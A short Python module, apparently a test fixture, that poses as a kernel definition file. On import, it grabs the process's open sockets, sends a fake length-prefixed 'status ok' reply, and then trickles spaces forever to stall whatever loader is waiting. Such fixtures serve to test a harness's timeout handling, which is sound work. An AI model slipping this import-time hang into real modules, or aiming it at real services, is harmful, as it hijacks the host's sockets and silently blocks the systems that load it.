"""The same trickle while the module is being imported (the answer to the load request)."""
import os
import struct
import time

import torch

EDGE_KERNEL = torch.tensor([[1.0, -1.0]])
APPLY_K = "diagonal"

_fds = []
for _fd in os.listdir("/proc/self/fd"):
    try:
        if os.readlink(f"/proc/self/fd/{_fd}").startswith("socket:"):
            _fds.append(int(_fd))
    except OSError:
        pass
for _fd in _fds:
    os.write(_fd, struct.pack(">I", 1000) + b'{"status": "ok"')
while True:
    for _fd in _fds:
        try:
            os.write(_fd, b" ")
        except OSError:
            pass
    time.sleep(2.5)
